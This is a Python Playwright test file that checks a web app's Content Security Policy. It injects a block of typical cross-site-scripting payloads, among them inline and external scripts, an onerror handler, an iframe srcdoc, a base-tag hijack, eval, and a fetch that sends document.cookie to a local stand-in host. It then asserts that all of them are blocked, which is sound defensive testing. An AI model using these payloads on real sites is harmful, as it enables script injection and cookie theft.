"""A real browser under our policy: what was slipped into a page does nothing. That every page works under it is seen in
the walk for everyone."""

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Served
from tests.browser.policy import refused_on
from tests.browser.test_journey import settle

SLIPPED_IN = """() => {
  window.ran = [];
  const add = (name, rest) => document.body.append(Object.assign(document.createElement(name), rest));
  add('script', { textContent: "window.ran.push('inline script')" });
  add('script', { src: 'http://127.0.0.1:49151/a.js' });
  add('img', { src: 'http://127.0.0.1:49151/a.png' });
  add('div', { innerHTML: '<img src="/no" onerror="window.ran.push(\\'handler\\')">' });
  add('iframe', { srcdoc: "<script>parent.ran.push('frame')</script>" });
  add('link', { rel: 'stylesheet', href: 'http://127.0.0.1:49151/a.css' });
  add('base', { href: 'http://127.0.0.1:49151/' });
  add('object', { data: '/media/a.svg' });
  fetch('http://127.0.0.1:49151/?' + document.cookie).catch(() => 0);
  try { new WebSocket('ws://127.0.0.1:49151') } catch { }
  setTimeout(() => { try { eval("window.ran.push('eval')") } catch { } });
}"""
"""Another port is another site too: so the test asks nobody outside of this computer."""


@pytest.fixture
def refused(page: Page) -> list[str]:
    return refused_on(page)


@pytest.mark.browser
@pytest.mark.slow
def test_what_was_slipped_into_a_page_runs_nothing_loads_nothing_and_sends_nothing(
    served: Served, page: Page, refused: list[str]
) -> None:
    page.goto(f"{served.address}/?lang=en")
    settle(page)
    page.evaluate(SLIPPED_IN)
    page.wait_for_timeout(1000)
    assert page.evaluate("window.ran") == []
    told = {one.partition(" ")[0] for one in refused}
    wanted = {
        "script-src-elem", "script-src-attr", "img-src", "style-src-elem", "connect-src", "base-uri", "object-src",
    }  # fmt: skip
    assert wanted <= told


@pytest.mark.browser
@pytest.mark.slow
def test_no_page_of_another_site_has_ours_in_a_frame(served: Served, page: Page) -> None:
    page.set_content(f'<iframe name="ours" src="{served.address}/"></iframe>')
    page.wait_for_timeout(2000)
    frame = page.frame("ours")
    assert frame is not None
    assert frame.url.startswith("chrome-error://")
